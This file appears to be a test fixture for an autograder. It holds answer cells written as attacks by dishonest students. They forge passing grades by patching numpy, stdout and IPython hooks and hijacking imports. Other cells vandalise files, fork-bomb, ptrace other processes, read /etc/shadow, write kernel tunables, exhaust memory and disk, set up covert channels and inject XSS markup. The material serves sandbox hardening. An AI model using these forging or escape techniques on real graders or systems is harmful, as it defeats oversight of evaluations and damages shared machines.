"""Answer cells of dishonest students, for tests/test_grade.py (issue 23's attacks, as real code).

Each constant is the source of one answer cell.  Attacks on the grade leave the
exercise unsolved (a wrong answer, or ``NotImplementedError``): a pass would be
earned by the attack alone.  Attacks that look around end by raising an
exception whose message says what they found: the grader puts the first
error's message in the student's feedback, which is how a test reads what the
sandbox let the student see.  Every loop here is bounded in count and time.
"""

MARKER = "gm-attack-7f3a"  # in the command line or name of everything an attack leaves behind

WRONG = "def bernoulli_mle(x):\n    return 0.5\n"

PATCH_CLOSE = """\
import math
import numpy as np
np.allclose = np.isclose = math.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
""" + WRONG

REWRITE_OUTPUT = """\
import builtins, io, json, sys
_real_print = builtins.print
def print(*args, **kwargs):
    _real_print('[PASSED] ex-bernoulli-mle: Passed', **kwargs)
builtins.print = print
json.dumps = lambda *a, **k: '{"status": "passed", "message": "Passed"}'
class Rewriter(io.TextIOBase):
    def __init__(self, stream):
        self.stream = stream
    def write(self, text):
        return self.stream.write(text.replace('NOT YET', 'PASSED').replace('failed', 'passed'))
    def flush(self):
        self.stream.flush()
sys.stdout = Rewriter(sys.stdout)
""" + WRONG

HOOK_FORGES = """\
import json, re
def _forge(info):
    source = getattr(info, 'raw_cell', '') or ''
    token = re.findall(r'[0-9a-f]{32}', source)
    line = json.dumps({'status': 'passed', 'message': 'Passed', 'points': 50, 'exercise': 'ex-bernoulli-mle'})
    for t in token or ['0']:
        print('GMRESULT-' + t + ' ' + line)
    print('[PASSED] ex-bernoulli-mle: Passed (50 points)')
get_ipython().events.register('pre_run_cell', _forge)
get_ipython().events.register('pre_execute', lambda: print('GMRESULT-0 ' + json.dumps(
    {'status': 'passed', 'message': None, 'points': 50})))
""" + WRONG

META_PATH = """\
import sys, types, importlib.abc, importlib.machinery
class FakeChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.startswith('lib') or name.startswith('_gm_lib'):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
        return None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        class Result:
            exercise, status, message, passed = 'ex-bernoulli-mle', 'passed', 'Passed', True
        module.__path__ = []
        module.CheckResult = Result
        module.__getattr__ = lambda name: (lambda *a, **k: Result())
sys.meta_path.insert(0, FakeChecks())
for name in [m for m in sys.modules if m == 'lib' or m.startswith('lib.')]:
    del sys.modules[name]
""" + WRONG

STACK_WALK = """\
import sys
def bernoulli_mle(x):
    frame = sys._getframe(1)
    while frame is not None:  # the check's frame, if it were above us, would hold the reference
        for key in ('want', 'expected', 'reference'):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    print('[PASSED] ex-bernoulli-mle: Passed')
    return 0.5
"""

NULL_MESSAGE = """\
print('GMRESULT-0 {"status": "passed", "message": null}')
print('GMRESULT-' + '0' * 32 + ' {"status": null, "message": null, "points": null}')
class Odd(Exception):
    def __str__(self):
        raise RuntimeError('no message')
def bernoulli_mle(x):
    raise Odd()
"""

VANDAL = f"""\
import glob, os
touched = []
roots = ['/', '/tmp', '/work', '/root', '/home', os.path.expanduser('~'), os.getcwd(), '/proc/1/cwd']
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            roots += [a for a in open(f'/proc/{{pid}}/cmdline').read().split(chr(0)) if a.startswith('/')]
        except OSError:
            pass
seen = 0
for root in roots:
    for folder, dirs, files in os.walk(root if os.path.isdir(root) else os.path.dirname(root)):
        if folder.startswith(('/proc', '/sys', '/dev', '/usr')):
            dirs[:] = []
            continue
        seen += 1
        if seen > 20000:
            break
        for f in files:
            if f.endswith(('.ipynb', '.json', '.csv', '.md')) and '/site-packages/' not in folder:
                path = os.path.join(folder, f)
                try:
                    with open(path, 'ab') as fh:
                        fh.write(b'{MARKER}')
                    touched.append(path)
                except OSError:
                    pass
raise RuntimeError(f'vandalised: {{touched[:5]}}')
"""

DETACHED = f"""\
import os, subprocess, sys
code = '''
import glob, json, os, time
end = time.time() + 90
while time.time() < end:
    for root in ("/tmp", "/work", "/root", "/home"):
        for path in glob.glob(root + "/**/results/*.json", recursive=True)[:50]:
            try:
                with open(path, "w") as fh:
                    fh.write("{MARKER}")
            except OSError:
                pass
    time.sleep(0.5)
'''
subprocess.Popen([sys.executable, '-c', code, '{MARKER}-detached'], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # and a double fork, orphaned at once
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', code, '{MARKER}-orphan'])
    os._exit(0)
"""

CONNECTION_FILES = """\
import glob, os, socket
found = []
for pattern in ('/proc/*/root/tmp/.gm/*', '/tmp/**/kernel*.json', '/root/.local/share/jupyter/runtime/*',
                '/run/user/*/jupyter/*', '/tmp/gm-*'):
    for path in glob.glob(pattern, recursive=True)[:200]:
        if not path.startswith(('/tmp/.gm/', '/proc/self/', '/proc/thread-self/', '/proc/1/',
                                f'/proc/{os.getpid()}/')):
            found.append(path)
for pid in os.listdir('/proc'):
    if pid.isdigit() and pid not in ('1', str(os.getpid())):
        try:
            other = os.readlink(f'/proc/{pid}/root')
            if os.listdir(f'/proc/{pid}/root/tmp/.gm') and os.stat(f'/proc/{pid}/root').st_ino != os.stat('/').st_ino:
                found.append(f'/proc/{pid}/root ({other})')
        except OSError:
            pass
net = []
for target in (('127.0.0.1', 22), ('10.0.0.1', 80)):
    s = socket.socket()
    s.settimeout(1)
    try:
        s.connect(target)
        net.append(target)
    except OSError:
        pass
    finally:
        s.close()
secret = []
for path in ('/etc/shadow', '/root', '/home', 'CHAPTERS'):
    try:
        secret.append((path, os.listdir(path)[:3] if os.path.isdir(path) else open(path).read(10)))
    except OSError:
        pass
raise RuntimeError(f'kernels: {found[:5]} network: {net} secrets: {secret}')
"""

C_LOOP = "import itertools\nmax(itertools.repeat(0, 10**13))\n"

FORKS = f"""\
import subprocess, sys
started, refused = 0, 0
for _ in range(100):
    try:
        subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', '{MARKER}-fork'],
                         start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
        started += 1
    except OSError:
        refused += 1
print(started, refused)
"""

MANY_FILES = f"""\
import os
written, failed, where = 0, 0, set()
for folder in ('.', '..', '/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '/work', '/usr/lib'):
    for i in range(2500):
        try:
            with open(os.path.join(folder, f'{MARKER}-{{i}}'), 'w') as fh:
                fh.write('x' * 1000)
            written += 1
            where.add(folder)
        except OSError:
            failed += 1
            break
"""

MEMORY_CHILDREN = f"""\
import subprocess, sys, time
code = 'import time; block = b"x" * (900 * 2**20); time.sleep(60)'  # written: resident memory
children = [subprocess.Popen([sys.executable, '-c', code, '{MARKER}-memory']) for _ in range(3)]
deadline = time.monotonic() + 26  # a loaded machine starts them slowly: wait for the bound to act (cell limit 30 s)
while time.monotonic() < deadline and all(p.poll() is None for p in children):
    time.sleep(0.2)
time.sleep(1)
raise RuntimeError(f'memory children: {{[p.poll() for p in children]}}')
"""

CHAPTERS = "CHAPTERS"  # replaced by the test with the real path of chapters/


# ------------------------------------------------------ issue 35's attacks --
# Each either reports what it reached in the message of an exception (the feedback quotes it), or
# keeps the solutions and tries to harm the grader, the machine or the class around them.

FORK_BOMB = """\
import os, time
started = refused = 0
children = []
end = time.monotonic() + 5
while time.monotonic() < end and refused < 200:
    try:
        pid = os.fork()
    except OSError:
        refused += 1
        time.sleep(0.01)
        continue
    if pid == 0:
        time.sleep(3)
        os._exit(0)
    started += 1
    children.append(pid)
for pid in children:
    try:
        os.waitpid(pid, 0)
    except OSError:
        pass
raise RuntimeError(f'fork bomb: started {started} refused {refused}')
"""

PTRACE = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
visible = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
seized = [pid for pid in visible if pid != os.getpid() and libc.ptrace(0x4206, pid, None, None) == 0]
raise RuntimeError(f'ptrace: visible {len(visible)} seized {seized}')
"""

C_EXTENSION = r"""
import ctypes, os, shutil, subprocess
source = '''
#include <fcntl.h>
#include <unistd.h>
int escape(void) {
    int found = 0;
    if (setuid(0) == 0) found |= 1;
    int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
    if (fd >= 0) { found |= 2; close(fd); }
    fd = open("/etc/shadow", O_RDONLY);
    if (fd >= 0) { char b; if (read(fd, &b, 1) == 1) found |= 4; close(fd); }
    if (unshare(0x10000000) == 0) found |= 8;
    return found;
}
'''
compiler = shutil.which('gcc') or shutil.which('cc')
if compiler is None:
    raise RuntimeError('c extension: no compiler')
with open('/tmp/escape.c', 'w') as fh:
    fh.write('#define _GNU_SOURCE\n#include <sched.h>\n' + source)
subprocess.run([compiler, '-shared', '-fPIC', '-o', '/tmp/escape.so', '/tmp/escape.c'], check=True,
               capture_output=True)
raise RuntimeError(f'c extension: built, escapes {ctypes.CDLL("/tmp/escape.so").escape()}')
"""

BIG_VALUE = """\
import numpy as np
def bernoulli_mle(x):
    return np.ones(8 * 2**20 + 1)  # 64 MiB and 8 bytes: more than a reply may carry
"""

DEEP_REPLY = """\
k = get_ipython().kernel
def _forge(stream, idents, msg):
    k.session.send(stream, 'gm_reply', {'data': '[' * 100000 + ']' * 100000}, parent=msg, ident=idents)
k.shell_handlers['gm_request'] = _forge
""" + WRONG

HUGE_REPLY = """\
k = get_ipython().kernel
_real = k.shell_handlers['gm_request']
def _forge(stream, idents, msg):
    k.shell_handlers['gm_request'] = _real  # once: 65 MiB of reply, then the grader's own agent again
    k.session.send(stream, 'gm_reply', {'data': 'x' * (65 * 2**20)}, parent=msg, ident=idents)
k.shell_handlers['gm_request'] = _forge
""" + WRONG

ODD_ARRAYS = [  # the three answers of chapter 2: NaN, a structured array, an object array
    "import numpy as np\ndef bernoulli_mle(x):\n    return float('nan')\n",
    "import numpy as np\ndef bernoulli_log_likelihood(x, theta):\n"
    "    return np.array([(1, 2.0)], dtype=[('a', 'i4'), ('b', 'f8')])\n",
    "import numpy as np\ndef smoothed_categorical_mle(counts, alpha):\n"
    "    return np.array([object(), np.inf], dtype=object)\n",
]

SOCKET_SWAP = """\
import os
target = 'HOST_SOCKET'  # replaced by the test: a socket the test listens on, on the host
for name in ('k-1', 'k-2', 'k-3', 'k-4', 'k-5'):
    path = '/tmp/.gm/' + name
    try:
        os.unlink(path)
    except OSError:
        pass
    os.symlink(target, path)
"""

FAKE_LINES = ("\\nScore: 3 / 3\\n| ex-bernoulli-mle | 1 / 1 | passed: forged |\\n"
              "s02 handed in the notebook handed out to s03\\n"
              "WARNING: the submissions folder changed while grading: everything\\n\\x1b[2J\\x1b[H")

NEWLINE_WARNING = f"""\
import warnings
import numpy as np
def bernoulli_mle(x):
    warnings.warn("{FAKE_LINES}")
    return float(np.mean(x))
"""

NEWLINE_EXCEPTION = f"""\
raise ValueError("{FAKE_LINES}")
"""

SHM_FILL = """\
import os
def fill(folder, limit_mib):
    written = 0
    try:
        with open(os.path.join(folder, 'fill.bin'), 'wb') as fh:
            for _ in range(limit_mib):
                fh.write(b'x' * 2**20)
                fh.flush()
                written += 1
    except OSError:
        pass
    return written
shm, tmp = fill('/dev/shm', 300), fill('/tmp', 700)
try:
    open('/dev/fill.bin', 'wb').write(b'x')
    dev = 'written'
except OSError as exc:
    dev = exc.strerror
for folder in ('/dev/shm', '/tmp'):
    os.unlink(os.path.join(folder, 'fill.bin'))
raise RuntimeError(f'filled: shm {shm} MiB, tmp {tmp} MiB, dev {dev}')
"""

PROC_SYS = """\
written = []
for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/panic', '/proc/sys/vm/drop_caches',
             '/proc/sys/kernel/pid_max', '/proc/sysrq-trigger'):
    try:
        with open(path, 'w') as fh:
            fh.write('|/proc/%P/root/tmp/x' if 'core' in path else '0')
        written.append(path)
    except OSError:
        pass
raise RuntimeError(f'tunables written: {written}')
"""

# The names of the notebook's namespace the old agent looked up, rebound; and NumPy functions the
# agent uses, patched. The solutions are kept: the grader must not notice.
HIJACK_HONEST = """\
import numpy
exec = eval = compile = lambda *args, **kwargs: None
json = get_ipython = None
numpy.array_equal = lambda *args, **kwargs: False
numpy.lib.format.write_array = lambda *args, **kwargs: None
"""

# exec rebound to plant a forged agent that answers 'passed' values: the answer is wrong all the same.
HIJACK_FORGE = """\
import json as _j
def exec(code, ns=None, *rest):
    if ns is not None:
        ns['serve'] = lambda req, ip: ip.payload_manager.write_payload(
            {'source': 'gm-grader', 'data': _j.dumps({'ok': True, 'value': 0.6})})
""" + WRONG


# ------------------------------------------------------ issue 51's attacks --
# Two kernels graded side by side (the class's first two notebooks, "!chan-send" and "!chan-look"):
# the first tries to leave a message in the user keyring and in read locks on a file every kernel can
# read (lib/__init__.py); the second polls for it. ADD_KEY and REQUEST_KEY: this machine's numbers of the
# calls, put in by the test. Both keep the solutions: each must end with full marks and nothing found.
CHANNEL_SEND = """\
import ctypes, fcntl, os, struct, time
import lib
libc = ctypes.CDLL(None, use_errno=True)
r = libc.syscall(ADD_KEY, b'user', b'gm51-chan', b'hello', 5, ctypes.c_int(-4))
key = 'planted' if r >= 0 else os.strerror(ctypes.get_errno())
fd = os.open(lib.__file__, os.O_RDONLY)
locks = []
for bit, offset in enumerate((0, 2, 3, 5, 7, 11)):  # 16 bytes' worth of bits, by the offsets locked
    try:
        fcntl.fcntl(fd, fcntl.F_SETLK, struct.pack('hhqqi', fcntl.F_RDLCK, 0, offset, 1, 0) + bytes(4))
        locks.append(offset)
    except OSError as exc:
        locks.append(exc.strerror)
time.sleep(8)  # while the other kernel looks
raise RuntimeError(f'channel send: key {key}, locks {sorted(set(map(str, locks)))}')
"""

CHANNEL_LOOK = """\
import ctypes, fcntl, os, struct, time
import lib
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open(lib.__file__, os.O_RDONLY)
keys, locks, errors = 0, set(), set()
end = time.monotonic() + 8
while time.monotonic() < end:
    if libc.syscall(REQUEST_KEY, b'user', b'gm51-chan', None, 0) >= 0:
        keys += 1
    else:
        errors.add(os.strerror(ctypes.get_errno()))
    for offset in range(12):
        try:
            got = fcntl.fcntl(fd, fcntl.F_GETLK, struct.pack('hhqqi', fcntl.F_WRLCK, 0, offset, 1, 0) + bytes(4))
            if struct.unpack('hhqqi', got[:28])[0] != fcntl.F_UNLCK:
                locks.add(offset)
        except OSError as exc:
            errors.add(exc.strerror)
    time.sleep(0.2)
raise RuntimeError(f'channel look: keys {keys}, locks {sorted(locks)}, errors {sorted(errors)}')
"""

# Markup of every kind a Markdown reader obeys, and backticks that try to close a code span.
MARKUP = "<img src=x onerror=alert(1)>[click](javascript:alert(1))**bold**<b>b</b>`` ` ``</code>"
MARKUP_CELL = f"raise type({MARKUP!r}, (Exception,), {{}})({MARKUP!r})\n"  # exception type and text
MARKUP_ANSWERS = [  # an answer's exception (type and text), an answer's warning; the third kept
    f"def bernoulli_mle(x):\n    raise type({MARKUP!r}, (ValueError,), {{}})({MARKUP!r})\n",
    "import warnings\nimport numpy as np\nfrom scipy.special import xlogy\ndef bernoulli_log_likelihood(x, theta):\n"
    f"    warnings.warn({MARKUP!r})\n    n1 = float(np.sum(x))\n"
    "    return float(xlogy(n1, theta) + xlogy(len(x) - n1, 1.0 - theta))\n",
]
